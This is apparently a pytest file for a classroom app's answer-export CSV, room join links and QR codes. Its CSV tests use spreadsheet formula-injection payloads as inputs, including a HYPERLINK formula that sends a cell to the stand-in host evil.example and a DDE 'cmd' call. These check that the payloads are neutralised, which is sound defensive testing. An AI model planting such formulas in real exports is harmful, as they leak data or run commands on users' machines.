"""The answers' CSV (no cell a spreadsheet runs), the join link and its QR code (decoded here)."""

from __future__ import annotations

import csv
import io
import re
import struct
import xml.etree.ElementTree as ET
import zlib

import pytest

from tformer.rooms import (
    AnswerRow,
    InvalidInput,
    MemoryRoomStore,
    answers_csv,
    csv_cell,
    join_link,
    join_qr,
    qr_matrix,
)

# --- CSV ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tx",
        "\rx",
        "\n=1",
        "  =1+1",
        "＝1+1",
        "-",
        "+",
        "=",
    ],
)
def test_a_cell_that_could_be_a_formula_is_quoted(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["B", "-3", "+1.5", "2e10", "-.5", "Li Wei", "李雷", "a=b", "x@y", ""])
def test_plain_text_and_numbers_are_left_alone(cell):
    assert csv_cell(cell) == cell


def test_the_answers_download_round_trips_and_is_safe():
    rows = [
        AnswerRow(name="=cmd()", step="q1", answer="-1+1", correct=False, at=0.0),
        AnswerRow(name='Li "Wei", Jr', step="q1", answer="B", correct=True, at=1_800_000_000.5),
        AnswerRow(name="李雷", step="q2", answer="@x\n2", correct=None, at=1_800_000_000.0),
    ]
    data = answers_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 (Chinese names) with the BOM
    got = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert got[0] == ["name", "question", "answer", "correct", "time (UTC)"]
    assert got[1] == ["'=cmd()", "q1", "'-1+1", "no", "1970-01-01T00:00:00+00:00"]
    assert got[2] == ['Li "Wei", Jr', "q1", "B", "yes", "2027-01-15T08:00:00+00:00"]
    assert got[3] == ["李雷", "q2", "'@x\n2", "", "2027-01-15T08:00:00+00:00"]
    for row in got:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert answers_csv([], header=("名字", "题", "答", "对", "时间")).decode("utf-8-sig").startswith("名字,")
    with pytest.raises(ValueError, match="5 columns"):
        answers_csv([], header=("a",))


def test_the_download_of_a_room():
    store = MemoryRoomStore()
    t = store.open_room()
    seat = store.join(t.code, "=HYPERLINK(1)")
    store.submit(t.code, seat.seat_id, "q1", "+SUM(A1)", correct=True)
    text = answers_csv(store.answers(t.code, t.token)).decode("utf-8-sig")
    assert "'=HYPERLINK(1),q1,'+SUM(A1),yes," in text


# --- the join link ------------------------------------------------------------------------------


def test_the_join_link():
    assert (
        join_link("http://10.1.2.3:8080/attention?text=x", "abcd2345")
        == "http://10.1.2.3:8080/?room=ABCD-2345"
    )
    assert join_link("https://class.example/app/heads", "ABCD-2345", page="student") == (
        "https://class.example/app/student?room=ABCD-2345"
    )
    with pytest.raises(ValueError, match="http"):
        join_link("javascript:alert(1)", "ABCD2345")
    with pytest.raises(InvalidInput):
        join_link("http://x/", "nope")


# --- the QR code, decoded -----------------------------------------------------------------------

# Byte-mode payloads of versions 1-6 at level M: (data codewords per block, blocks).
_BLOCKS_M = {1: (16, 1), 2: (28, 1), 3: (44, 1), 4: (32, 2), 5: (43, 2), 6: (27, 4)}
_ALIGN = {1: [], 2: [6, 18], 3: [6, 22], 4: [6, 26], 5: [6, 30], 6: [6, 34]}
_MASKS = [
    lambda i, j: (i + j) % 2 == 0,
    lambda i, j: i % 2 == 0,
    lambda i, j: j % 3 == 0,
    lambda i, j: (i + j) % 3 == 0,
    lambda i, j: (i // 2 + j // 3) % 2 == 0,
    lambda i, j: (i * j) % 2 + (i * j) % 3 == 0,
    lambda i, j: ((i * j) % 2 + (i * j) % 3) % 2 == 0,
    lambda i, j: ((i + j) % 2 + (i * j) % 3) % 2 == 0,
]


def _format_words() -> dict[int, tuple[int, int]]:
    """Every valid 15-bit format word -> (EC level bits, mask), per ISO/IEC 18004."""
    out = {}
    for data in range(32):
        rem = data << 10
        for bit in range(14, 9, -1):
            if rem >> bit & 1:
                rem ^= 0x537 << (bit - 10)
        out[((data << 10) | rem) ^ 0x5412] = (data >> 3, data & 7)
    return out


def decode_qr(m: list[list[bool]]) -> bytes:
    """The byte-mode payload of a version 1-6, level M QR code (no error correction applied:
    the code was drawn, not photographed, so every module must be right)."""
    size = len(m)
    version = (size - 17) // 4
    assert size == 17 + 4 * version
    assert all(len(r) == size for r in m)
    assert version in _BLOCKS_M
    for r0, c0 in ((0, 0), (0, size - 7), (size - 7, 0)):  # the three finder patterns
        for i in range(7):
            for j in range(7):
                ring = max(abs(i - 3), abs(j - 3))
                assert m[r0 + i][c0 + j] == (ring != 2), (r0, c0, i, j)
    word = 0
    for r, c in [(8, j) for j in range(6)] + [(8, 7), (8, 8), (7, 8)] + [(i, 8) for i in range(5, -1, -1)]:
        word = word << 1 | m[r][c]
    level, mask = _format_words()[word]  # KeyError: no valid format information
    assert level == 0, "level M"

    def is_function(i: int, j: int) -> bool:
        if (i < 9 and j < 9) or (i < 9 and j >= size - 8) or (i >= size - 8 and j < 9):
            return True
        if i == 6 or j == 6:
            return True
        centers = _ALIGN[version]
        for ci in centers:
            for cj in centers:
                if (ci, cj) in ((6, 6), (6, centers[-1]), (centers[-1], 6)):
                    continue
                if abs(i - ci) <= 2 and abs(j - cj) <= 2:
                    return True
        return False

    bits = []
    col, upward = size - 1, True
    while col > 0:
        if col == 6:
            col -= 1
        rows = range(size - 1, -1, -1) if upward else range(size)
        bits.extend(
            m[i][j] ^ _MASKS[mask](i, j) for i in rows for j in (col, col - 1) if not is_function(i, j)
        )
        col, upward = col - 2, not upward
    codewords = [
        int("".join("1" if b else "0" for b in bits[k : k + 8]), 2) for k in range(0, len(bits) - 7, 8)
    ]
    per_block, n_blocks = _BLOCKS_M[version]
    data_words = codewords[: per_block * n_blocks]
    blocks = [data_words[b::n_blocks] for b in range(n_blocks)]
    stream = "".join(f"{w:08b}" for block in blocks for w in block)
    assert stream[:4] == "0100", f"byte mode expected, mode bits {stream[:4]}"
    n = int(stream[4:12], 2)
    return bytes(int(stream[12 + 8 * k : 20 + 8 * k], 2) for k in range(n))


@pytest.mark.parametrize(
    "link",
    [
        "http://10.0.0.7:8080/?room=ABCD-2345",
        "https://lecture-hall-3.university.example.edu/tformer/?room=WXYZ-6789",
        "http://127.0.0.1:8501/student?room=ABCD-2345&lang=zh",
    ],
)
def test_the_qr_code_holds_the_link(link):
    assert decode_qr([list(r) for r in qr_matrix(link)]) == link.encode()


def _png_pixels(data: bytes) -> list[list[int]]:
    """A greyscale 1-bit PNG as rows of 0 (black) / 1 (white), every filter type undone."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    i, idat, ihdr = 8, b"", b""
    while i < len(data):
        (n,) = struct.unpack(">I", data[i : i + 4])
        kind, body = data[i + 4 : i + 8], data[i + 8 : i + 8 + n]
        if kind == b"IHDR":
            ihdr = body
        elif kind == b"IDAT":
            idat += body
        i += 12 + n
    width, height, depth, color, _, _, interlace = struct.unpack(">IIBBBBB", ihdr)
    assert (depth, color, interlace) == (1, 0, 0)
    raw, stride = zlib.decompress(idat), (width + 7) // 8
    prev, rows = bytearray(stride), []
    for y in range(height):
        f, line = raw[y * (stride + 1)], bytearray(raw[y * (stride + 1) + 1 : (y + 1) * (stride + 1)])
        for x in range(stride):
            a, b, c = (line[x - 1] if x else 0), prev[x], (prev[x - 1] if x else 0)
            p = a + b - c
            paeth = (
                a
                if abs(p - a) <= abs(p - b) and abs(p - a) <= abs(p - c)
                else b
                if abs(p - b) <= abs(p - c)
                else c
            )
            line[x] = (line[x] + [0, a, b, (a + b) // 2, paeth][f]) & 0xFF
        rows.append([(line[x // 8] >> (7 - x % 8)) & 1 for x in range(width)])
        prev = line
    return rows


def test_the_png_draws_exactly_the_modules():
    link = "http://10.0.0.7:8080/?room=ABCD-2345"
    matrix = qr_matrix(link)
    scale, border = 3, 4
    px = _png_pixels(join_qr(link, "png", scale=scale, border=border))
    side = (len(matrix) + 2 * border) * scale
    assert len(px) == side
    assert all(len(r) == side for r in px)
    for y in range(side):
        for x in range(side):
            i, j = y // scale - border, x // scale - border
            dark = 0 <= i < len(matrix) and 0 <= j < len(matrix) and matrix[i][j]
            assert px[y][x] == (0 if dark else 1), (y, x)


def test_the_svg_draws_exactly_the_modules_and_nothing_else():
    link = "http://10.0.0.7:8080/?room=ABCD-2345"
    matrix = qr_matrix(link)
    svg = join_qr(link, "svg", scale=8)
    root = ET.fromstring(svg)
    tags = {el.tag.split("}")[-1] for el in root.iter()}
    assert tags <= {"svg", "g", "path"}  # no script, image, link or foreign object
    assert b"href" not in svg
    assert b"http://10.0.0.7" not in svg
    n = len(matrix) + 8
    assert root.get("width") == root.get("height") == str(n * 8)
    (dark,) = [p for p in root.iter() if p.tag.endswith("path") and p.get("stroke") == "#000"]
    drawn = set()
    x = y = 0.0
    for op, a, b in re.findall(r"([Mmh])(-?[\d.]+)(?:\s+(-?[\d.]+))?", dark.get("d", "")):
        if op == "M":
            x, y = float(a), float(b)
        elif op == "m":
            x, y = x + float(a), y + float(b)
        else:
            for k in range(int(float(a))):
                drawn.add((int(y) - 4, int(x) + k - 4))
            x += float(a)
    expected = {(i, j) for i, row in enumerate(matrix) for j, v in enumerate(row) if v}
    assert drawn == expected


def test_the_qr_code_refuses_what_it_cannot_draw():
    with pytest.raises(InvalidInput, match="at most 1024"):
        join_qr("http://x/?" + "a" * 1100)
    with pytest.raises(ValueError, match="kind is 'svg' or 'png', not 'gif'"):
        join_qr("http://x/", "gif")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match=r"scale=0 must be in 1\.\.64"):
        join_qr("http://x/", scale=0)
    assert join_qr("http://課堂.example/?room=ABCD-2345", "png")[:4] == b"\x89PNG"


def test_the_decoder_sees_a_wrong_module():
    link = "http://10.0.0.7:8080/?room=ABCD-2345"
    m = [list(r) for r in qr_matrix(link)]
    m[-1][-1] = not m[-1][-1]  # the first data module read
    with pytest.raises(AssertionError):
        assert decode_qr(m) == link.encode()
